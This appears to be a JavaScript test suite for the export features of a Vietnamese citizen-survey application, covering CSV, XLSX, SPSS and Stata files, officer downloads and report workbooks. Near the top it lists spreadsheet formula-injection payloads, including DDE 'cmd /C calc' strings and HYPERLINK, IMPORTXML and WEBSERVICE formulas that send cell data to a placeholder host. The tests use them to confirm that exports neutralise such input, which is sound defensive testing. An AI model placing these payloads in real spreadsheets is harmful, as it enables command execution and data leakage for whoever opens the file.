// Files of responses as other programs read them: no cell turns into a formula, Vietnamese is intact, figures are those of the report.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import test from 'node:test';
import { readDta } from '../lib/dta.mjs';
import { http, ok, run, serve } from '../lib/hailong.mjs';
import { definition, office } from '../lib/office.mjs';
import { Browser, firstLink } from '../lib/officers.mjs';
import { read, sameFigure, table, tool } from '../lib/sheets.mjs';

/** Texts that a spreadsheet would like to run: 200 of them, each with Vietnamese behind. */
const commands = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://x.example/?"&A1,"xem")', 'SUM(A1:A9)', 'IMPORTXML(CONCAT("http://x.example/",A1),"//a")', 'DDE("cmd","/C calc","x")', '84912', 'WEBSERVICE("http://x.example")', '2+5+cmd|x!A0', 'A1'];
const payloads = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\'=', '"='].flatMap((sign) => commands.flatMap((command) => [`${sign}${command} ông/bà Đặng Thị Ừng`, `${sign}${command}\n"ữ", ế; ợ`]));

async function house(t) {
  const d = await office(t);
  await d.publish(definition({ tc: null, cb: null }, [{ code: 'tc.1', dimension: 'tc', kind: 'scale', na: true, text: { vi: 'Thủ tục có rõ không?' } }, { code: 'cb.1', dimension: 'cb', kind: 'scale', text: { vi: 'Cán bộ' } },
    { code: 'gap', kind: 'yes-no', text: { vi: 'Có gặp khó khăn?' } }, { code: 'gi', kind: 'multi', text: { vi: 'Khó gì?' }, options: [{ code: 'xa', text: { vi: 'Đường xa' } }, { code: 'lau', text: { vi: 'Chờ lâu' } }], show_if: [{ question: 'gap', is: ['yes'] }] },
    { code: 'gy', kind: 'text', text: { vi: 'Ông/bà góp ý thêm' } }]));
  const quote = (text) => `"${text.replaceAll('"', '""')}"`;
  d.people = payloads.map((text, i) => ({ day: `2026-0${1 + i % 3}-${String(1 + i % 28).padStart(2, '0')}`, unit: ['xa', 'a', 'b'][i % 3], tc: ['1', '5', 'na', '', '4'][i % 5], cb: String(1 + i % 5), gap: i % 2 ? 'yes' : 'no', gi: i % 2 ? (i % 4 === 1 ? 'xa|lau' : 'lau') : '', text }));
  await ok(['import', '--survey', 'ks', d.file('in.csv', `date,counter,channel,language,tc.1,cb.1,gap,gi,gy\n${d.people.map((p) => [p.day, d.counter[p.unit], 'qr', 'vi', p.tc, p.cb, p.gap, p.gi, quote(p.text.startsWith('\'') ? `'${p.text}` : p.text)].join(',')).join('\n')}\n`), ...d.data]);
  d.export = async (format, name = `o.${format}`, more = []) => {
    await ok(['export', '--survey', 'ks', '--format', format, '-o', join(d.dir, name), ...more, ...d.data]);
    return join(d.dir, name);
  };
  d.stored = JSON.parse(readFileSync(await d.export('json'), 'utf8'));
  return d;
}
/** A row of the JSON as cells of a sheet. */
const cells = (codes, row) => codes.map((code) => { const v = row.answers[code]; return v === undefined ? '' : Array.isArray(v) ? v.join('|') : String(v); });

test('200 texts that look like formulas stay texts, in XLSX and CSV, and come in again as they were', async (t) => {
  assert.equal(payloads.length, 200);
  const d = await house(t);
  assert.deepEqual(d.stored.map((r) => r.answers.gy).sort(), payloads.slice().sort(), 'what is stored is what was written');
  const xlsx = await read(d, await d.export('xlsx'));
  assert.deepEqual(Object.keys(xlsx).sort(), ['Bảng mã', 'Phiếu', 'Đọc trước'].sort());
  const [head, ...rows] = xlsx['Phiếu'];
  const codes = head.slice(6);
  assert.deepEqual(codes, ['tc.1', 'cb.1', 'gap', 'gi', 'gy']);
  assert.deepEqual(rows.map((r) => r.slice(6)), d.stored.map((r) => cells(codes, r)), 'every cell, in order');
  assert.deepEqual(rows.map((r) => r[0].slice(0, 10)), d.stored.map((r) => r.date.split('-').reverse().join('/')), 'days are days');
  assert.ok(xlsx['Đọc trước'].some((r) => /^Tệp này chỉ dành cho/.test(r[1])), 'says whom it may be given to');
  const file = await tool('unzip', ['-p', join(d.dir, 'o.xlsx'), 'xl/worksheets/*'], d.dir);
  assert.ok(!file.includes('<f>') && !file.includes('<hyperlink'), 'no formula and no link in the file');
  const csv = await read(d, await d.export('csv'));
  const [, ...read_] = Object.values(csv)[0];
  const guarded = (text) => (/^['\t\r\n]|^\s*[=+@＝＋－＠-]/.test(text) ? `'${text}` : text);
  assert.deepEqual(read_.map((r) => r[10]), d.stored.map((r) => guarded(r.answers.gy)), 'a spreadsheet sees texts');
  const again = await office(t);
  await again.publish(JSON.parse(await ok(['survey', 'show', 'ks', '--json', ...d.data])));
  let text = readFileSync(join(d.dir, 'o.csv'), 'utf8');
  for (const unit of ['xa', 'a', 'b']) text = text.replaceAll(d.counter[unit], again.counter[unit]);
  await ok(['import', '--survey', 'ks', again.file('in.csv', text), ...again.data]);
  const sums = (r) => JSON.stringify(r.answers);
  assert.deepEqual(JSON.parse(await ok(['export', '--survey', 'ks', '--format', 'json', '-o', '-', ...again.data])).map(sums).sort(), d.stored.map(sums).sort(), 'the guard is taken off again');
  const raw = table(readFileSync(await d.export('csv', 'raw.csv', ['--raw']), 'utf8'));
  assert.deepEqual(raw.slice(1).map((r) => r[10]), d.stored.map((r) => r.answers.gy), 'raw: as it is');
  assert.deepEqual(readFileSync(join(d.dir, 'o.xlsx')), readFileSync(await d.export('xlsx', 'twice.xlsx')), 'the same bytes again');
});

test('SPSS reads answers, labels and what is missing; the codebook says the same', async (t) => {
  const d = await house(t), file = await d.export('sav');
  writeFileSync(join(d.dir, 'look.sps'), `GET FILE='${file}'.\nSAVE TRANSLATE /OUTFILE='${join(d.dir, 'sav.csv')}' /TYPE=CSV /FIELDNAMES /MISSING=IGNORE /REPLACE.\nSAVE TRANSLATE /OUTFILE='${join(d.dir, 'labels.csv')}' /TYPE=CSV /FIELDNAMES /CELLS=LABELS /REPLACE.\nDISPLAY DICTIONARY.\nFREQUENCIES /VARIABLES=q_tc_1 q_gi_2.\n`);
  const out = await tool('pspp', [join(d.dir, 'look.sps')], d.dir);
  const [head, ...rows] = table(readFileSync(join(d.dir, 'sav.csv'), 'utf8'));
  assert.deepEqual(head, ['date', 'counter', 'channel', 'language', 'revision', 'half_day', 'q_tc_1', 'q_cb_1', 'q_gap', 'q_gi_1', 'q_gi_2', 'q_gy']);
  const expect = d.stored.map((r) => { const a = r.answers, many = (code) => (a.gap === 'no' ? '98' : a.gi === undefined ? ' ' : a.gi.includes(code) ? '1' : '0');
    return [a['tc.1'] === undefined ? ' ' : a['tc.1'] === 'na' ? '99' : String(a['tc.1']), String(a['cb.1']), a.gap === 'yes' ? '1' : '0', many('xa'), many('lau'), a.gy]; });
  assert.deepEqual(rows.map((r) => r.slice(6).map((c) => (c === '' ? ' ' : c))), expect);
  const labels = table(readFileSync(join(d.dir, 'labels.csv'), 'utf8')).slice(1);
  assert.ok(labels.some((r) => r[7] === 'Rất hài lòng') && labels.some((r) => r[8] === 'Không'), 'values have their words');
  assert.match(out, /Không có ý\s+kiến/);
  const valid = d.stored.filter((r) => typeof r.answers['tc.1'] === 'number').length;
  assert.match(out.replaceAll(/\s+/g, ' '), new RegExp(`Valid ${valid}\\b|\\|${valid}\\b|N\\W+Valid\\W+${valid}`), 'missing is missing');
  const book = JSON.parse(await ok(['codebook', '--survey', 'ks', '--json', ...d.data])).columns;
  const of = (code) => book.find((c) => c.code === code);
  assert.deepEqual([of('gi').condition, of('tc.1').dimension.code, of('gy').kind, of('tc.1').variable], ['gap is yes', 'tc', 'text', 'q_tc_1']);
  assert.deepEqual(of('tc.1').values.map((v) => [v.value, v.number, v.satisfied]), [['1', 1, false], ['2', 2, false], ['3', 3, false], ['4', 4, true], ['5', 5, true], ['na', 99, false]]);
  const csv = table(await ok(['codebook', '--survey', 'ks', ...d.data]));
  assert.deepEqual(csv.filter((r) => r[0] === 'gi').map((r) => [r[7], r[10], r[11]]), [['gap is yes', 'xa', 'Đường xa'], ['gap is yes', 'lau', 'Chờ lâu']]);
});

test('Stata: days, answers, why one is missing, labels and long Vietnamese texts, as the format says', async (t) => {
  const d = await house(t), long = `${'Ông/bà Đặng Thị Ừng đợi lâu quá, ữ ế ợ. '.repeat(45)}hết`;
  await ok(['import', '--survey', 'ks', d.file('long.csv', `date,counter,channel,language,tc.1,cb.1,gap,gi,gy\n2026-03-05,${d.counter.a},qr,vi,3,2,yes,,"${long}"\n`), ...d.data]);
  const stored = JSON.parse(readFileSync(await d.export('json'), 'utf8')), file = readDta(readFileSync(await d.export('dta')));
  const by = Object.fromEntries(file.variables.map((v) => [v.name, v])), at = (row, name) => row[file.variables.findIndex((v) => v.name === name)];
  assert.equal(file.label, 'ks');
  assert.deepEqual(Object.keys(by).filter((name) => !/^q_gy_/.test(name)), ['date', 'counter', 'channel', 'language', 'revision', 'half_day', 'q_tc_1', 'q_cb_1', 'q_gap', 'q_gi_1', 'q_gi_2', 'q_gy']);
  assert.equal(by.q_tc_1.label, 'Thủ tục có rõ không?');
  assert.equal(by.q_gi_1.label, 'Đường xa: Khó gì?');
  assert.deepEqual(by.q_tc_1.labels, { 1: 'Rất không hài lòng', 2: 'Không hài lòng', 3: 'Bình thường', 4: 'Hài lòng', 5: 'Rất hài lòng', '.a': 'Không có ý kiến', '.b': 'Không hỏi' });
  assert.equal(by.q_gi_1.labels['.b'], 'Không hỏi');
  assert.deepEqual([by.q_gap.labels[0], by.q_gap.labels[1], by.q_gi_2.labels[0], by.q_gi_2.labels[1]], ['Không', 'Có', 'Không', 'Có']);
  assert.match(by.date.format, /^%td/);
  assert.equal(file.rows.length, stored.length);
  const texts = file.variables.filter((v) => /^q_gy/.test(v.name));
  assert.ok(texts.length > 1 && texts.every((v) => v.type <= 2045), 'a long text goes on in another variable');
  stored.forEach((r, i) => {
    const row = file.rows[i], a = r.answers, many = (code) => (a.gap === 'no' ? '.b' : a.gi === undefined ? '.' : Number(a.gi.includes(code)));
    assert.equal(new Date(Date.UTC(1960, 0, 1) + at(row, 'date') * 864e5).toISOString().slice(0, 10), r.date);
    assert.deepEqual(['counter', 'channel', 'language', 'revision'].map((name) => at(row, name)), [r.counter, r.channel, r.language, r.revision]);
    assert.deepEqual(['q_tc_1', 'q_cb_1', 'q_gap', 'q_gi_1', 'q_gi_2'].map((name) => at(row, name)), [a['tc.1'] === undefined ? '.' : a['tc.1'] === 'na' ? '.a' : a['tc.1'], a['cb.1'], Number(a.gap === 'yes'), many('xa'), many('lau')], `row ${i}`);
    assert.equal(texts.map((v) => at(row, v.name)).join(''), a.gy, `row ${i}`);
  });
  const letters = new Set(file.rows.map((row) => at(row, 'q_tc_1')));
  assert.ok(letters.has('.') && letters.has('.a') && file.rows.some((row) => at(row, 'q_gi_1') === '.b') && file.rows.some((row) => at(row, 'q_gi_1') === '.'), 'every way of being missing');
});

test('what cannot be exported is refused with what to do', async (t) => {
  const d = await office(t);
  for (const [args, words] of [[['--format', 'pdf'], /choose csv, xlsx, json, sav or dta/], [['--format', 'xlsx', '--raw'], /--raw goes with --format csv/]]) {
    const { status, err } = await run(['export', '--survey', 'ks', '-o', '-', ...args, ...d.data]);
    assert.equal(status, 2);
    assert.match(err, words);
  }
});

test('an officer asks for a file, waits, fetches it; nobody else does, and it is not there for ever', async (t) => {
  const d = await house(t), dir = d.data[1];
  const today = new Date(Date.now() + 7 * 3600e3).toISOString().slice(0, 10);
  await ok(['import', '--survey', 'ks', '-', ...d.data], { input: `date,counter,channel,language,cb.1,gy\n${today},${d.counter.a},qr,vi,4,Lời còn chờ\n` });
  const server = await serve(dir);
  t.after(async () => assert.equal(await server.stop(), 0, server.log));
  const first = new Browser(server);
  await first.setUp(firstLink(server), { login: 'quan.tri', name: 'Nguyễn Thị Quản' });
  const officer = async (login, role, unit) => {
    const who = new Browser(server);
    await who.setUp(JSON.parse(await ok(['officer', 'add', login, '--name', 'Cán bộ (minh họa)', '--role', role, '--unit', unit, '--json', ...d.data])).link);
    return who;
  };
  const other = await officer('a.quan', 'admin', 'a'), reader = await officer('a.doc', 'officer', 'a');
  const page = '/office/u/a/export', fields = { do: 'make', survey: 'ks', format: 'csv', from: '2026-01-01', to: '2026-02-28', confirm: 'yes' };
  const refused = async (more, words) => {
    const answer = await first.send(page, { ...fields, ...more });
    assert.equal(answer.status, 422);
    assert.match(answer.body, words);
    return answer.body;
  };
  const kept = await refused({ to: '2026-02-30', format: 'json' }, /Xin ghi ngày có thật/);
  assert.match(kept, /value="?2026-02-30/, 'what was typed stays');
  assert.match(kept, /value="?json"? checked/);
  await refused({ from: '2026-03-01' }, /Ngày cuối đứng trước ngày đầu/);
  const { confirm, ...silent } = fields;
  assert.equal((await first.send(page, silent)).status, 422, 'what it is must be read');
  assert.equal((await first.send(page, { ...fields, format: 'pdf' })).status, 400);
  assert.equal((await first.get(`${page}/file`)).status, 404);
  const make = async (who, more = {}) => {
    assert.equal((await who.send(page, { ...fields, ...more })).status, 303);
    for (let i = 0; ; i++) {
      const { body } = await who.get(page);
      if (/Tệp đã xong/.test(body)) return who.get(`${page}/file`);
      assert.ok(i < 100 && /Đang làm tệp/.test(body), body);
      await new Promise((done) => setTimeout(done, 50));
    }
  };
  const file = await make(first);
  assert.equal(file.status, 200);
  assert.match(file.headers['content-disposition'], /^attachment; filename="phieu-ks.csv"$/);
  const rows = table(file.body).slice(1), expect = d.people.filter((p) => p.unit === 'a' && p.day < '2026-03');
  assert.equal(rows.length, expect.length);
  assert.ok(rows.filter((r) => r[10] !== '').length >= 5, 'comments of closed batches');
  const all = await make(first, { from: '', to: '' });
  assert.equal(table(all.body).length, 1 + d.people.filter((p) => p.unit === 'a').length + 1);
  assert.deepEqual(table(all.body).filter((r) => r[0] === today).map((r) => r[10]), [''], 'a comment waits until its batch is closed');
  assert.match(readFileSync(await d.export('csv'), 'utf8'), /Lời còn chờ/);
  assert.equal((await other.get(`${page}/file`)).status, 404, "another officer's file");
  assert.equal((await first.get('/office/u/b/export/file')).status, 404, 'of another unit');
  assert.equal((await reader.get(page)).status, 404, 'single responses are for admins');
  const workbook = await make(other, { format: 'xlsx' });
  assert.equal(workbook.bytes.subarray(0, 2).toString(), 'PK');
  assert.equal((await other.send(page, { do: 'drop' })).status, 303);
  assert.equal((await other.get(`${page}/file`)).status, 404);
  assert.doesNotMatch((await other.get(page)).body, /Tệp đã xong/);
  const log = JSON.parse(await ok(['audit', 'list', '--json', ...d.data])).filter((e) => e.event === 'export');
  assert.deepEqual(log.map((e) => [e.who, e.about, e.unit, e.detail]).sort(), [['a.quan', 'ks', 'a', 'xlsx 2026-01-01..2026-02-28 comments=shown'], ['quan.tri', 'ks', 'a', 'csv .. comments=shown'], ['quan.tri', 'ks', 'a', 'csv 2026-01-01..2026-02-28 comments=shown']]);
  assert.match((await first.get('/office/audit?max=100')).body, /loại tệp csv, từ ngày … đến ngày …; các ý kiến như trên trang ý kiến/);
  assert.deepEqual(readdirSync(dir).filter((name) => /temporary|xlsx|csv/.test(name)), [], 'no file with a name');
  const half = await http(server, 'HEAD', `${page}/file`, { headers: { Cookie: `__Host-s=${first.cookie}` } });
  assert.deepEqual([half.status, half.body], [200, '']);
});

test('a report as a workbook says what JSON says, draws it, and hides what is hidden', async (t) => {
  const d = await house(t);
  await ok(['setting', 'set', 'threshold.respondents', '12', ...d.data]);
  await ok(['target', 'import', d.file('t.csv', 'survey,dimension,unit,year,target\nks,all,,2026,80\nks,tc,,2026,"66,6667"\n'), ...d.data]);
  // Twelve people in each of six months, three in another: hidden, and not only those.
  const few = Array.from({ length: 3 }, (_, i) => `2026-05-0${i + 1},${d.counter.a},qr,vi,4,5`), more = Array.from({ length: 60 }, (_, i) => `2026-0${6 + i % 4}-11,${d.counter.a},qr,vi,${1 + i % 5},${5 - i % 3}`);
  await ok(['import', '--survey', 'ks', '-', ...d.data], { input: `date,counter,channel,language,tc.1,cb.1\n${[...few, ...more].join('\n')}\n` });
  const args = ['--unit', 'a', '--by', 'month'], file = join(d.dir, 'r.xlsx');
  const report = await d.report(...args);
  await ok([...d.args(args), '--format', 'xlsx', '-o', file]);
  assert.ok(report.periods.some((p) => p.dimensions.some((e) => e.hidden)) && report.periods.some((p) => p.dimensions.some((e) => !e.hidden)), 'some are hidden, some not');
  const book = await read(d, file, true);
  assert.deepEqual(Object.keys(book).sort(), ['Biểu đồ', 'Cách tính', 'Dưới chỉ tiêu', 'Phạm vi và độ tin cậy', 'Số liệu biểu đồ', 'Theo kỳ', 'Tóm tắt'].sort());
  const series = book['Theo kỳ'].slice(1), all = report.periods.flatMap((p) => [...p.dimensions, ...p.questions].map((e) => [p, e]));
  assert.equal(series.length, all.length);
  let figures = 0;
  all.forEach(([p, e], i) => {
    assert.deepEqual([series[i][0], Number(series[i][3]), series[i][4]], [p.period, p.responses, e.code]);
    sameFigure(series[i].slice(6), e, `${p.period} ${e.code}`);
    figures++;
  });
  t.diagnostic(`${figures} figures`);
  const last = report.periods.at(-1), summary = book['Tóm tắt'];
  const at = summary.findIndex((r) => r[0] === 'all');
  last.dimensions.forEach((e, i) => sameFigure(summary[at + i].slice(2), e, `summary ${e.code}`));
  assert.equal(Number(summary[at + 1][13]), 66.6667);
  // Charts are drawn from cells that are empty where a figure is hidden.
  book['Số liệu biểu đồ'].slice(1).forEach((row, i) => report.periods[i].dimensions.forEach((e, k) => assert.equal(row[1 + 2 * k] ?? '', e.hidden ? '' : row[1 + 2 * k], `${i} ${e.code}`)));
  const parts = await tool('unzip', ['-Z1', file], d.dir);
  assert.equal(parts.match(/xl\/charts\/chart\d+\.xml/g).length, last.dimensions.length);
  const chart = await tool('unzip', ['-p', file, 'xl/charts/chart1.xml'], d.dir);
  const drawn = /<c:val>.*?<\/c:val>/s.exec(chart)[0];
  assert.deepEqual([...drawn.matchAll(/<c:pt idx="(\d+)"><c:v>([^<]+)/g)].map((m) => [Number(m[1]), Number(Number(m[2]).toFixed(9))]),
    report.periods.flatMap((p, i) => (p.dimensions[0].hidden ? [] : [[i, Number(p.dimensions[0].percent.toFixed(9))]])), 'a point for every figure that is shown, none for a hidden one');
  assert.doesNotMatch(chart, /dispBlanksAs val="(zero|span)"/);
  assert.equal(chart.match(/<c:ser>/g).length, 2, 'figures and the target');
  await ok([...d.args(args), '--format', 'xlsx', '-o', join(d.dir, 'r2.xlsx')]);
  assert.deepEqual(readFileSync(file), readFileSync(join(d.dir, 'r2.xlsx')), 'the same bytes again');
  // The page's workbook is the same.
  const server = await serve(d.data[1]);
  t.after(async () => assert.equal(await server.stop(), 0, server.log));
  const first = new Browser(server);
  await first.setUp(firstLink(server), { login: 'quan.tri', name: 'Nguyễn Thị Quản' });
  assert.match((await first.get('/office/u/a?survey=ks&by=month')).body, /report\.xlsx\?survey=ks&amp;by=month/);
  const page = await first.get('/office/u/a/report.xlsx?survey=ks&by=month');
  assert.equal(page.status, 200);
  assert.deepEqual(page.bytes, readFileSync(file), 'page and command line');
  const named = async (query) => (await first.get(`/office/u/a/report.xlsx?survey=ks&${query}`)).headers['content-disposition'];
  assert.match(await named('by=month'), /^attachment; filename="ks-a-\d{4}-\d\d\.\.\d{4}-\d\d\.xlsx"$/);
  assert.equal(await named('by=quarter&from=2026-01-01&to=2026-03-31'), 'attachment; filename="ks-a-2026-Q1.xlsx"');
  assert.equal((await first.get('/office/u/a/report.xlsx?survey=ks&from=2026-13-01')).status, 422);
});
